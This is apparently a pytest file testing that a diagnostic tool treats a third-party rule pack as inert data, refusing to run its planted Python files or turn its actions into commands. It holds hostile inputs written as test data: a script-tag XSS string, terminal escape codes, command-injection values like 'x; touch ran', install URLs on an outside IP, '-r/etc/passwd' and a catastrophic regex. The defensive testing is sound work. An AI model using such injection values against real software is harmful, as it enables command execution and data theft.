"""A folder of rules from somebody else: data that may advise wrongly, and can do nothing by itself."""

from __future__ import annotations

from pathlib import Path

import pytest

from sgldoctor.__main__ import main

ROOT = Path(__file__).resolve().parents[2]
LOG = str(ROOT / "fixtures" / "missing-libcudnn" / "fires-import.log")
RULE = """
title = "Theirs <script>alert(1)</script> \\u001b[2J"
cause = "missing-libcudnn"
about = "theirs"
[[log]]
anchor = "cannot open shared object file"
[[fix]]
title = "theirs"
safety = "safe"
action = [{action}]
"""


@pytest.fixture
def pack(tmp_path: Path) -> Path:
    folder = tmp_path / "pack"
    folder.mkdir()
    for name in ("__init__.py", "conftest.py", "their-rule.py", "sitecustomize.py"):
        (folder / name).write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\n")
    return folder


def write(pack: Path, action: str) -> None:
    (pack / "their-rule.toml").write_text(RULE.replace("{action}", action))


def test_no_code_of_it_is_run(pack: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write(pack, '{ do = "manual", text = "look" }')
    assert main(["explain", "--rules", str(pack), LOG]) == 1
    out = capsys.readouterr().out
    assert "Theirs" in out, "the rule did not fire"
    assert "\x1b" not in out
    assert main(["explain", "--rules", str(pack), "--format", "html", LOG]) == 1
    assert "<script>alert(1)" not in capsys.readouterr().out
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    "action",
    [
        '{ do = "install", packages = ["x; touch ran"] }',
        '{ do = "install", packages = ["--index-url=http://203.0.113.9/"] }',
        '{ do = "install", packages = ["x @ http://203.0.113.9/x.whl"] }',
        '{ do = "install", packages = ["-r/etc/passwd"] }',
        '{ do = "uninstall", packages = ["$(touch ran)"] }',
        '{ do = "set-env", name = "LD_PRELOAD;touch ran", value = "x" }',
        '{ do = "load-module", module = "x; touch ran" }',
        '{ do = "shell", command = "touch ran" }',
    ],
)
def test_no_action_of_it_becomes_a_command(pack: Path, action: str, capsys: pytest.CaptureFixture[str]) -> None:
    write(pack, action)
    status = main(["explain", "--rules", str(pack), LOG])
    said = capsys.readouterr()
    assert status in (1, 2)
    assert status == 2 or "Theirs" in said.out
    for hostile in ("touch ran", "203.0.113.9", "/etc/passwd"):
        assert hostile not in said.out


def test_a_pattern_that_takes_for_ever_is_refused(pack: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = RULE.replace("{action}", '{ do = "manual", text = "x" }')
    (pack / "their-rule.toml").write_text(text.replace('file"\n', "file\"\npattern = '(a+)+b'\n"))
    assert main(["explain", "--rules", str(pack), LOG]) == 2
    (line,) = capsys.readouterr().err.strip().splitlines()
    assert "their-rule.toml" in line
